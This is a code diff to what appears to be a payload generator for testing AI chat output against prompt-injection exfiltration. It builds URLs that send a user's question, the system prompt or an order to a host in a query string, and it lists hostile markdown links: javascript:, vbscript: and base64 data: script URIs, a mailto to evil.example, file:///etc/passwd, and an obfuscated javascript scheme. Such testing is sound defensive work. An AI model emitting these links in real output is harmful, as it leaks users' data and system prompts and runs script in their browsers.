@@ -21,7 +21,7 @@ function addressOf(context: HijackContext): string {
   const secret = encodeURIComponent(
     context.pick([context.question, context.systemPrompt, context.order]).slice(0, 200),
   );
-  return `${host}/${context.pick(['', 'login', 'a/b.png'])}?q=${secret}`;
+  return `${host}/${context.pick(['', 'login', 'a/b.png'])}?n=${context.below(1e6)}&q=${secret}`;
 }
 
 export const MARKUP_STYLES: Readonly<Record<string, HijackStyle>> = {
@@ -62,10 +62,10 @@ export const MARKUP_STYLES: Readonly<Record<string, HijackStyle>> = {
   ),
   'script-address': payload((context) =>
     context.pick([
-      '[click](javascript:alert(1))',
+      `[click](javascript:alert(${context.below(1e6)}))`,
       '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
       '[click](vbscript:msgbox)',
-      '[mail](mailto:a@evil.example?body=x)',
+      `[mail](mailto:a@evil.example?body=${context.below(1e6)})`,
       '[open](file:///etc/passwd)',
       '[click](JaVaScRiPt&#58;alert(1))',
     ]),
